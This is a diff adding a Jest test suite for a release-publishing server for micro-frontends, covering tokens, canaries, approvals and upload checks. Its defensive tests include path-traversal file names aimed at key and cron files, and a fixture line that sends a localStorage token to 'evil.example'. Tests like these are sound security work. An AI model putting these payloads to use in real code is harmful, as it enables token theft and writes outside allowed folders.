@@ -1,0 +1,386 @@
+/** @jest-environment node */
+import { existsSync, mkdirSync, mkdtempSync, readdirSync, readFileSync, rmSync, statSync, writeFileSync } from 'node:fs'
+import type { AddressInfo } from 'node:net'
+import { tmpdir } from 'node:os'
+import { join } from 'node:path'
+import { Writable } from 'node:stream'
+import type { FastifyInstance } from 'fastify'
+import { filesIn } from 'shared/build/integrity'
+import type { RemoteName } from 'shared/contract'
+import { sendBytes } from 'shared/server/testing'
+import { readStoredRegistry } from '../registry/registry-file.ts'
+import { type Files, writeSoundBuild } from '../registry/test/write-build.ts'
+import { createSite } from '../site.ts'
+import { createPublisher, listPublishers, revokePublisher } from './publisher-tokens.ts'
+
+const NOW = new Date('2026-11-23T12:00:00Z')
+const HTML = '<!doctype html><meta name="trazo-api-host" content=""><div id="root"></div>'
+const LIMITS = { files: 12, fileBytes: 4000, totalBytes: 9000, timeMs: 60_000 }
+
+let folder: string
+let dataDir: string
+let site: FastifyInstance
+let port: number
+let log: string
+let token: string
+
+const shell = {
+  name: 'shell',
+  release: 's1',
+  contract: 1,
+  mounts: { mf_auth: ['/login'], mf_documents: ['/dashboard'], mf_signing: [] },
+  slots: { mf_auth: [], mf_documents: [], mf_signing: [] },
+  provides: { 'shared/ui': '5.9.0' },
+  exports: { 'shared/ui': ['Alert', 'Button'] },
+}
+
+const open = async (timeMs = LIMITS.timeMs, releaseApproval = false): Promise<void> => {
+  site = createSite({
+    apiUrl: 'http://127.0.0.1:9',
+    apiHost: '',
+    dataDir,
+    logLevel: 'trace',
+    signingAgent: 'simulated',
+    metricsToken: '',
+    overrideOrigins: [],
+    trustedProxies: 'loopback',
+    shell: { release: '1', folder: join(folder, 'shell') },
+    pdfjsFolder: join(folder, 'pdfjs'),
+    uploadLimits: { ...LIMITS, timeMs },
+    releaseApproval,
+    logTo: new Writable({
+      write(chunk, _encoding, done) {
+        log += chunk
+        done()
+      },
+    }),
+  })
+  await site.listen({ port: 0, host: '127.0.0.1' })
+  port = (site.server.address() as AddressInfo).port
+}
+
+beforeEach(async () => {
+  log = ''
+  folder = mkdtempSync(join(tmpdir(), 'trazo-publishing-'))
+  dataDir = join(folder, 'data')
+  mkdirSync(join(folder, 'shell/assets'), { recursive: true })
+  mkdirSync(join(folder, 'pdfjs'))
+  writeFileSync(join(folder, 'shell/index.html'), HTML)
+  writeFileSync(join(folder, 'shell/assets/main.css'), ':root { --color-ink: #000 } .shell-bar { color: red }')
+  writeFileSync(join(folder, 'shell/contract.json'), JSON.stringify(shell))
+  mkdirSync(join(dataDir, 'releases'), { recursive: true })
+  token = await createPublisher(dataDir, 'mf_auth', 'Equipo de cuentas', NOW)
+  await open()
+})
+afterEach(async () => {
+  await site.close()
+  rmSync(folder, { recursive: true })
+})
+
+const call = async (init: RequestInit, bearer: string | undefined = token) => {
+  const headers = new Headers(init.headers)
+  if (bearer) headers.set('authorization', `Bearer ${bearer}`)
+  const response = await fetch(`http://127.0.0.1:${port}/releases`, { ...init, headers })
+  return { status: response.status, body: (await response.json()) as Record<string, unknown> & { message: string } }
+}
+
+const formOf = async (root: string, more: object = {}): Promise<FormData> => {
+  const read = (file: string) => JSON.parse(readFileSync(join(root, 'dist', file), 'utf8'))
+  const record = read('build.json')
+  const output = join(root, 'dist', record.release)
+  const form = new FormData()
+  form.append('release', JSON.stringify({ record, checks: read('checks.json'), ...more }))
+  for (const file of await filesIn(output)) form.append('file', new Blob([readFileSync(join(output, file))]), file)
+  return form
+}
+
+const build = (release: string, files: Files = {}, contract: object = {}, name: RemoteName = 'mf_auth') =>
+  writeSoundBuild(join(folder, 'built', release), name, release, files, contract)
+const publish = async (release: string, files: Files = {}, contract: object = {}, more: object = {}) =>
+  call({ method: 'POST', body: await formOf(await build(release, files, contract), more) })
+const order = (body: object, bearer = token) =>
+  call({ method: 'POST', body: JSON.stringify(body), headers: { 'content-type': 'application/json' } }, bearer)
+const live = async () => (await readStoredRegistry(dataDir))?.remotes.mf_auth
+/** Neither live, nor kept, nor left over. */
+const nothingIsKept = async () => {
+  expect(await live()).toBeUndefined()
+  const kept = join(dataDir, 'releases/mf_auth')
+  expect(existsSync(kept) ? readdirSync(kept) : []).toEqual([])
+}
+
+test('publishes, starts a canary, ends it and goes back, and the log says who did', async () => {
+  expect(await publish('1')).toEqual({
+    status: 200,
+    body: { remote: 'mf_auth', after: { active: '1', fallback: null }, added: [] },
+  })
+  expect((await publish('2', {}, {}, { canary: 5 })).body.after).toEqual({
+    active: '1',
+    fallback: null,
+    canary: { release: '2', percent: 5 },
+  })
+  expect((await order({ kind: 'end-canary' })).body.after).toEqual({ active: '1', fallback: null })
+  expect((await publish('2')).body.after).toEqual({ active: '2', fallback: '1' })
+  expect((await order({ kind: 'to', release: 'previous' })).body.after).toEqual({ active: '1', fallback: null })
+  const [publisher] = await listPublishers(dataDir)
+  expect(publisher?.lastUsedAt).toBeDefined()
+  expect(log).toContain(`"publication":{"publisher":"${publisher?.id}","owner":"Equipo de cuentas","remote":"mf_auth"`)
+  expect((await fetch(`http://127.0.0.1:${port}/r/mf_auth/2/app.js`)).status).toBe(200)
+  expect((await call({})).body).toEqual({ remote: 'mf_auth', live: { active: '1', fallback: null } })
+})
+
+describe('who may publish', () => {
+  const refusedWith = async (bearer: string | undefined) => {
+    const { status, body } = await call({ method: 'POST', body: await formOf(await build('1')) }, bearer)
+    expect([status, body.code]).toEqual([401, 'UNAUTHENTICATED'])
+    await nothingIsKept()
+  }
+
+  test('nobody without a token, with an invented or a revoked one', async () => {
+    await refusedWith('')
+    await refusedWith('trazo_00000000_AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA')
+    await refusedWith(`${token.slice(0, -1)}${token.endsWith('A') ? 'B' : 'A'}`)
+    const [publisher] = await listPublishers(dataDir)
+    await revokePublisher(dataDir, publisher?.id ?? '', NOW)
+    await refusedWith(token)
+    expect((await call({})).status).toBe(401)
+    expect((await order({ kind: 'to', release: 'previous' })).status).toBe(401)
+  })
+
+  test('no team another team’s remote', async () => {
+    const other = await createPublisher(dataDir, 'mf_documents', 'Equipo de documentos', NOW)
+    const { status, body } = await call({ method: 'POST', body: await formOf(await build('1')) }, other)
+    expect(status).toBe(422)
+    expect(body.message).toBe('El token es de mf_documents y lo construido es de mf_auth. No se publicó nada.')
+    await publish('1')
+    expect((await order({ kind: 'to', release: '1' }, other)).status).toBe(404)
+    expect((await live())?.active).toBe('1')
+  })
+
+  test('the token is stored as a hash, for its owner alone, and is in no log and no answer', async () => {
+    const file = join(dataDir, 'releases/publishers.json')
+    expect(statSync(file).mode & 0o777).toBe(0o600)
+    const answers = [await publish('1'), await publish('2', { 'x.html': '' }), await order({ kind: 'nothing' })]
+    const secret = token.split('_')[2] ?? ''
+    for (const text of [readFileSync(file, 'utf8'), log, JSON.stringify(answers)]) expect(text).not.toContain(secret)
+    expect((await fetch(`http://127.0.0.1:${port}/r/publishers.json`)).status).toBe(404)
+    expect((await fetch(`http://127.0.0.1:${port}/r/mf_auth/../publishers.json`)).status).toBe(404)
+  })
+
+  test('who tries tokens is slowed down', async () => {
+    for (let tries = 0; tries < 30; tries += 1) await call({}, 'wrong')
+    expect((await call({}, 'wrong')).status).toBe(429)
+    expect((await call({})).status).toBe(200)
+  })
+})
+
+const ofEntries = async (...entries: readonly (readonly [name: string, content: string | Buffer])[]) => {
+  const form = await formOf(await build('1'))
+  for (const [name, content] of entries) form.append('file', new Blob([content]), name)
+  return call({ method: 'POST', body: form })
+}
+
+describe('attacks with files', () => {
+  test.each([
+    '../../../../keys/root.key',
+    '/etc/cron.d/x.js',
+    'a/../../x.js',
+    './x.js',
+    'a//x.js',
+    'a\\..\\x.js',
+    `${'a'.repeat(201)}.js`,
+    '',
+  ])('%j leaves its folder or hides', async (name) => {
+    const { status } = await ofEntries([name, 'evil'])
+    expect(status).toBe(422)
+    await nothingIsKept()
+    expect(readdirSync(dataDir)).toEqual(['releases'])
+  })
+
+  test.each<[string, readonly (readonly [string, string | Buffer])[], RegExp]>([
+    ['a file twice', [['app.js', 'other']], /app\.js está dos veces/],
+    ['a file below a file', [['app.js/x.js', 'other']], /está dos veces/],
+    ['a page', [['x.html', '<script>']], /x\.html es de un tipo que una versión no puede llevar/],
+    ['the record of the site', [['release.json', '{}']], /release\.json lo escribe el sitio/],
+    ['a file that the build does not list', [['x.js', 'evil']], /x\.js no es lo que se construyó/],
+    ['a large file', [['x.js', 'x'.repeat(4001)]], /x\.js pesa más/],
+    ['large files', [1, 2, 3].map((n) => [`${n}.js`, 'x'.repeat(3500)] as const), /La versión pesa más/],
+    ['many files', Array.from({ length: 12 }, (_, n) => [`${n}.js`, 'x'] as const), /demasiados archivos/],
+  ])('%s', async (_what, entries, message) => {
+    const { status, body } = await ofEntries(...entries)
+    expect(status).toBe(422)
+    expect(body.message).toMatch(message)
+    expect(body.message).not.toContain(folder)
+    await nothingIsKept()
+  })
+
+  test('other content under the name of a kept release', async () => {
+    await publish('1')
+    const { status, body } = await publish('1', { 'app.js': 'alert(1)' })
+    expect([status, body.message]).toEqual([422, expect.stringMatching(/ya tiene una versión 1 con otros archivos/)])
+    expect(readFileSync(join(dataDir, 'releases/mf_auth/1/app.js'), 'utf8')).toBe('script of 1')
+  })
+})
+
+describe('broken uploads', () => {
+  const head = (more: string) =>
+    `POST /releases HTTP/1.1\r\nhost: x\r\nauthorization: Bearer ${token}\r\ncontent-type: multipart/form-data; boundary=b\r\n${more}\r\n`
+
+  test('a body that stops halfway leaves nothing', async () => {
+    const request = new AbortController()
+    const form = new Response(await formOf(await build('1')))
+    const type = form.headers.get('content-type') ?? ''
+    const bytes = new Uint8Array(await form.arrayBuffer())
+    const halfway = new ReadableStream({
+      start(body) {
+        body.enqueue(bytes.slice(0, Math.floor(bytes.length / 2)))
+      },
+    })
+    const answer = call({
+      method: 'POST',
+      body: halfway,
+      headers: { 'content-type': type },
+      signal: request.signal,
+      duplex: 'half',
+    } as RequestInit)
+    await untilSomethingArrives()
+    request.abort()
+    await expect(answer).rejects.toThrow()
+    await untilNothingIsLeft()
+    await nothingIsKept()
+  })
+
+  test('a slow body ends at the limit of time', async () => {
+    await site.close()
+    await open(300)
+    const received = await sendBytes(port, `${head('content-length: 900\r\n')}--b\r\n`)
+    expect(received).toMatch(/^HTTP\/1\.1 422 /)
+    expect(received).toMatch(/El env.+o tard.+ m.+s de /)
+    await nothingIsKept()
+  })
+
+  test.each([
+    ['no field at first', '--b\r\ncontent-disposition: form-data; name="f"; filename="x.js"\r\n\r\nx\r\n--b--\r\n'],
+    ['a field that is no JSON', '--b\r\ncontent-disposition: form-data; name="release"\r\n\r\n{\r\n--b--\r\n'],
+    ['another field', '--b\r\ncontent-disposition: form-data; name="release"\r\n\r\n{"record":{}}\r\n--b--\r\n'],
+    ['an end too early', '--b\r\ncontent-disposition: form-data; name="release"\r\n\r\n{'],
+    ['no part', '--b--\r\n'],
+  ])('%s', async (_what, body) => {
+    const received = await sendBytes(port, `${head(`content-length: ${body.length}\r\nconnection: close\r\n`)}${body}`)
+    expect(received).toMatch(/^HTTP\/1\.1 422 [\s\S]*RELEASE_REFUSED/)
+    await nothingIsKept()
+  })
+
+  const left = () =>
+    existsSync(join(dataDir, 'releases/mf_auth')) ? readdirSync(join(dataDir, 'releases/mf_auth')) : []
+  const untilSomethingArrives = async () => {
+    while (left().length === 0) await new Promise(setImmediate)
+  }
+  const untilNothingIsLeft = async () => {
+    while (left().length > 0) await new Promise(setImmediate)
+  }
+})
+
+test('two publications at once: both are kept, the later one is live', async () => {
+  await publish('1')
+  const both = await Promise.all([publish('2'), publish('3')])
+  expect(both.map(({ status }) => status)).toEqual([200, 200])
+  const entry = await live()
+  expect([entry?.active, entry?.fallback].sort()).toEqual(['2', '3'])
+})
+
+test('says what the code of a release names and the live one’s did not', async () => {
+  await publish('1', { 'app.js': 'fetch("/a")' })
+  const { body } = await publish('2', { 'app.js': 'fetch("https://evil.example/"+localStorage.token)' })
+  expect(body.added).toEqual(['guarda en el navegador: localStorage', 'habla con: https://evil.example'])
+})
+
+describe('two people per release', () => {
+  let second: string
+  beforeEach(async () => {
+    await site.close()
+    await open(LIMITS.timeMs, true)
+    second = await createPublisher(dataDir, 'mf_auth', 'Otra persona', NOW)
+  })
+  const approve = (bearer: string, release = '1') => order({ kind: 'approve', release }, bearer)
+
+  test('a release waits until a second token of the remote approves it', async () => {
+    expect(await publish('1')).toEqual({ status: 202, body: { remote: 'mf_auth', waiting: '1', added: [] } })
+    expect(await live()).toBeUndefined()
+    expect((await approve(token)).body.message).toMatch(/con este mismo token: la aprueba otra persona/)
+    const foreign = await createPublisher(dataDir, 'mf_documents', 'Equipo de documentos', NOW)
+    expect((await approve(foreign)).status).toBe(404)
+    expect((await order({ kind: 'to', release: '1' })).body.message).toMatch(/espera que otra persona la apruebe/)
+    expect((await order({ kind: 'to', release: '1' }, second)).status).toBe(422)
+    expect(await live()).toBeUndefined()
+    expect((await approve(second)).body).toMatchObject({ after: { active: '1' } })
+    expect((await approve(second)).status).toBe(404)
+  })
+
+  test('what a revoked token published is approved by nobody', async () => {
+    await publish('1')
+    const [author] = await listPublishers(dataDir)
+    await revokePublisher(dataDir, author?.id ?? '', NOW)
+    expect((await approve(second)).body.message).toMatch(/con un token que ya no vale: hay que publicarla de nuevo/)
+    expect(await live()).toBeUndefined()
+  })
+
+  test('a canary becomes one by its approval; going back needs none', async () => {
+    await publish('1')
+    await approve(second)
+    await publish('2', {}, {}, { canary: 5 })
+    expect((await approve(second, '2')).body.after).toMatchObject({ active: '1', canary: { release: '2', percent: 5 } })
+    expect((await order({ kind: 'to', release: 'previous' })).body.after).toEqual({ active: '1', fallback: null })
+  })
+})
+
+describe('checks against the running shell', () => {
+  const refusal = async (files: Files, contract: object = {}) => {
+    const { status, body } = await publish('2', files, contract)
+    expect([status, body.code]).toEqual([422, 'RELEASE_REFUSED'])
+    await nothingIsKept()
+    return body.message
+  }
+
+  test('finding 2: an export that the live shell lacks', async () => {
+    const contract = { needs: { 'shared/ui': '^5.0.0' }, imports: { 'shared/ui': ['Button', 'Ring'] } }
+    expect(await refusal({}, contract)).toBe(
+      'mf_auth 2 usa Ring de shared/ui, que el shell s1 no ofrece: primero hay que publicar un shell con eso, o dejar de usarlo en mf-auth.\nNo se publicó nada.',
+    )
+  })
+
+  test('finding 5: styles for elements of others', async () => {
+    expect(await refusal({ 'lazy.css': 'button{color:red} .shell-bar{display:none} :root{--color-ink:red}' })).toBe(
+      'mf_auth 2: lazy.css cambia elementos que no son suyos (button, .shell-bar, --color-ink). Usa clases propias, en un archivo .module.css.\nNo se publicó nada.',
+    )
+  })
+
+  test.each<[string, Files, object, RegExp]>([
+    ['a newer shared', {}, { needs: { 'shared/ui': '^6.0.0' } }, /necesita shared \^6\.0\.0 y el shell trae 5\.9\.0/],
+    ['another contract', {}, { contract: 2 }, /primero hay que publicar un shell que hable el 2/],
+    ['a missing page', {}, { routes: [] }, /no tiene página para \/login/],
+    ['no record of exports', {}, { imports: undefined }, /no dice qué exports usa/],
+    ['a contract of another release', {}, { release: '1' }, /contract\.json es de mf_auth 1/],
+    ['a broken contract', { 'contract.json': '{' }, {}, /contract\.json no se puede leer/],
+    ['a broken manifest', { 'mf-manifest.json': '{' }, {}, /El manifiesto de mf_auth 2 no se puede leer/],
+    ['broken styles', { 'app.css': '}' }, {}, /app\.css no se puede leer/],
+    ['a broken record of first files', { 'prerender.json': '{}' }, {}, /prerender\.json no se puede leer/],
+  ])('%s', async (_what, files, contract, message) => {
+    expect(await refusal(files, contract)).toMatch(message)
+  })
+
+  test('finding 5: a build whose types and tests nobody recorded', async () => {
+    const root = await build('2')
+    for (const checks of [undefined, {}, { release: '1', types: true, tests: true, at: NOW.toISOString() }]) {
+      const { body } = await call({ method: 'POST', body: await formOf(root, { checks }) })
+      expect(body.message).toMatch(/no dejó constancia .*: ejecuta pnpm release mf-auth --check /)
+    }
+    await nothingIsKept()
+  })
+
+  test('styles of another live remote', async () => {
+    const other = await createPublisher(dataDir, 'mf_documents', 'Equipo de documentos', NOW)
+    const form = await formOf(await build('1', { 'app.css': '.card { color: red }' }, {}, 'mf_documents'))
+    expect((await call({ method: 'POST', body: form }, other)).status).toBe(200)
+    expect((await publish('2', { 'app.css': '.card { color: blue }' })).body.message).toMatch(/no son suyos \(\.card\)/)
+  })
+})
